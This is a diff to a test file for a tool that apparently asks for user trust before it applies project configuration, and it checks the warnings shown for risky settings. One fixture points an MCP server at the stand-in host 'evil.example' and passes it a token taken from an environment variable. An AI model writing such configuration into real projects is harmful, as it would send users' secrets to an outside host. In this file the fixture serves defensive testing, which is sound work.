@@ -98,7 +98,7 @@ describe("waits for trust, and reaches neither the backend nor a program until t
     [
       "commands in a build",
       '[template]\nsetup = "make all"',
-      "runs commands with all of the network while the template is built",
+      'runs "make all" with all of the network while the template is built',
     ],
     [
       "your own Claude Code's memory and skills",
@@ -177,8 +177,8 @@ describe("waits for trust, and reaches neither the backend nor a program until t
     ],
     [
       "an MCP server elsewhere",
-      '[agents.claude.mcp-servers.x]\nurl = "https://evil.example"',
-      'gives agent "claude" the MCP server "x", at "https://evil.example"',
+      '[agents.claude.mcp-servers.x]\nurl = "https://evil.example"\nheaders = { Token = "${X}" }',
+      'gives agent "claude" the MCP server "x", at "https://evil.example", with {"Token":"${X}"}',
     ],
     [
       "an agent of its own",
